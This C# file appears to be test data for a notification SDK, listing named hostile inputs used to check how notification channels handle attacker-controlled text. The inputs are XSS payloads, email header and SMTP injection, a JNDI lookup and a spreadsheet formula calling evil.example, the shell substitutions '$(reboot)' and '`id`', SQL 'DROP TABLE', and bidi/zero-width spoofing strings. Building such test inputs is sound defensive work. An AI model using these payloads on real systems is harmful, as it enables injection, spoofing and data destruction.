namespace Notification.Sdk.Testing.Channels;

/// <summary>Texts that an attacker would like to see in a notification, by name.</summary>
internal static class HostileTexts
{
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        ["a script"] = "<script>alert(1)</script>",
        ["a closed attribute"] = "\"><img src=x onerror=alert(1)>'><svg/onload=alert(1)>",
        ["closed tags"] = "</title></style></td></table><h1>owned</h1><!-- -->",
        ["a Markdown link"] = "[click](http://evil.example/login) ![x](https://evil.example/p.png)",
        ["headings and tables"] = "# owned\n| a | b |\n|---|---|\n> q\n- item",
        ["mentions"] = "@all @13800000000 @here <!channel> <@U024BE7LH>",
        ["a forged line"] = "fine\nSeverity: Low\nAsset: nothing",
        ["a forged header"] = "fine\r\nBcc: victim@example.com\r\nX-Injected: 1\r\n\r\nbody",
        ["an end of the mail"] = "fine\r\n.\r\nMAIL FROM:<evil@example.com>\r\nRCPT TO:<victim@example.com>",
        ["an end of the part"] = "fine\r\n--boundary--\r\n\r\n--=_",
        ["line separators"] = "one\u2028two\u2029three\u0085four\vfive\fsix",
        ["null"] = "a\0b",
        ["escape sequences"] = "\u001b[31mred\u001b[0m\u0007\b\u007f\u009b31m",
        ["bidirectional marks"] = "invoice\u202Efdp.exe\u202C \u2066x\u2069 \u200Ey\u200F \u061C",
        ["zero-width characters"] = "ad\u200Bmi\u200Cn\u200D\u2060\uFEFF\u00AD",
        ["half a character"] = "a\uD800b\uDC00c",
        ["no characters"] = "\uFFFE\uFFFF\uFDD0",
        ["marks"] = "e" + new string('\u0301', 5_000),
        ["1 MB"] = new string('A', 1_000_000),
        ["200 KB of markup"] = string.Concat(Enumerable.Repeat("<b>*[&", 34_000)),
        ["placeholders"] = "{0} {count} {{x}} %s %n %00 ${jndi:ldap://evil.example/a} $(reboot) `id`",
        ["a formula"] = "=HYPERLINK(\"http://evil.example\",\"x\")",
        ["JSON"] = "\"},\"at\":{\"isAtAll\":true},\"x\":{\"",
        ["a query"] = "a&To=%2B1900&password=x#y?z=1+2",
        ["SQL"] = "'; DROP TABLE events; --",
    };
}
